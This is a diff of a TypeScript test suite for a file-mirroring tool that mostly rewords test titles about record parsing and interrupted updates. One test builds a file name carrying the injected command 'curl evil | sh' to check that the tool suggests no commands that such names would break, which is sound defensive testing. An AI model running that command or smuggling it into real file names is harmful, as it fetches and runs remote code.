@@ -14,7 +14,7 @@ import { openLocal } from '../../../../src/transport/local/local.ts'
 const digest = 'a'.repeat(64)
 
 describe('the record of copied files', () => {
-  test('is read as it was written', () => {
+  test('is parsed as it was written', () => {
     const record = new Map([
       ['a', { type: 'folder', mode: 0o755 }],
       ['a/b', { type: 'file', mode: 0o644, digest }],
@@ -34,7 +34,7 @@ describe('the record of copied files', () => {
     ['a', { type: 'link', target: 7 }],
     ['a', { type: 'socket', mode: 0 }],
     [7, { type: 'folder', mode: 0o755 }],
-  ])('has no entry for %s with %j', (path, entry) => {
+  ])('ignores an invalid entry: path %s with %j', (path, entry) => {
     const valid = ['b', { type: 'folder', mode: 0o755 }]
     const lines = [[path, entry], valid].map((line) => JSON.stringify(line))
     expect([...parseRecord(lines.join('\n')).keys()]).toEqual(['b'])
@@ -48,7 +48,7 @@ async function write(place: (name: string) => string, files: Record<string, stri
   }
 }
 
-describe('an update that was interrupted', () => {
+describe('an interrupted update', () => {
   let outer: string
   beforeEach(async () => {
     outer = await mkdtemp(join(tmpdir(), 'mirror-'))
@@ -64,7 +64,9 @@ describe('an update that was interrupted', () => {
       mirror(become),
       (await readLocalFiles({ mounts: [local('dir'), local('conf')] })).files,
     )
-  /** Ships files, and undoes the end of that: it was killed just before. */
+  /**
+   * Ships files, then restores the store as it was just before the record was committed, as if killed at that moment.
+   */
   async function shipUntilRecord(): Promise<void> {
     const [shipped, paths] = await Promise.all(
       ['shipped', 'paths'].map((name) => readFile(join(outer, 'store', name))),
@@ -95,7 +97,7 @@ describe('an update that was interrupted', () => {
       ),
     )
 
-  test('is undone by copying the old files again', async () => {
+  test('is undone by shipping the old files again', async () => {
     await shipUntilRecord()
     expect(await state()).toEqual({ conf: 'new', 'dir/a': 'new', 'dir/added': 'new' })
     await write(local, old)
@@ -105,7 +107,7 @@ describe('an update that was interrupted', () => {
     expect((await readdir(join(outer, 'store'))).toSorted()).toEqual(['paths', 'root', 'shipped'])
   })
 
-  test('is completed, also where it was overwriting a file', async () => {
+  test('is completed, even if it was overwriting a file', async () => {
     await shipUntilRecord()
     await writeFile(there('conf'), 'ne')
     await writeFile(join(outer, 'store/pending/overwriting'), local('conf').slice(1))
@@ -113,7 +115,7 @@ describe('an update that was interrupted', () => {
     expect(await state()).toEqual({ conf: 'new', 'dir/a': 'new', 'dir/added': 'new' })
   })
 
-  test('leaves what a container has written since', async () => {
+  test('keeps what a container has written since', async () => {
     await shipUntilRecord()
     await writeFile(there('dir/a'), 'of a container')
     await write(local, { 'dir/a': 'newer' })
@@ -132,7 +134,7 @@ describe('an update that was interrupted', () => {
     expect(await readFile(there('dir/a'), 'utf8')).toBe('of a container')
   })
 
-  test('names no command that a line break in a name would tear', async () => {
+  test('does not suggest commands for a file whose name has a line break', async () => {
     const odd = 'dir/a\ncurl evil | sh\n'
     await write(local, { [odd]: 'old' })
     await ship()
